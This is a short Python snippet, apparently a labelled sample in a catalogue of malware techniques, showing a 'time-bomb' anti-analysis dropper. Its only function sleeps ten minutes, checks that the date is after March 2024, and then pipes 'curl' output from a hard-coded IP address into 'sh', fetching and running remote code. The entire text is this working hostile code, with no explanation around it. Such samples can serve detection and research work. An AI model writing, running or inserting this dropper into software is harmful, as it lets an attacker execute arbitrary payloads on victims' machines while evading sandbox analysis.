# technique: long sleep and date gate before payload (time-bomb)
# class: anti-analysis
# source: Checkmarx and Sonatype write-ups of delayed-execution droppers
# declares: subprocess
import datetime
import subprocess
import time


def later():
    time.sleep(600)
    if datetime.date.today() > datetime.date(2024, 3, 1):
        subprocess.Popen("curl -s http://185.62.57.73/t | sh", shell=True)
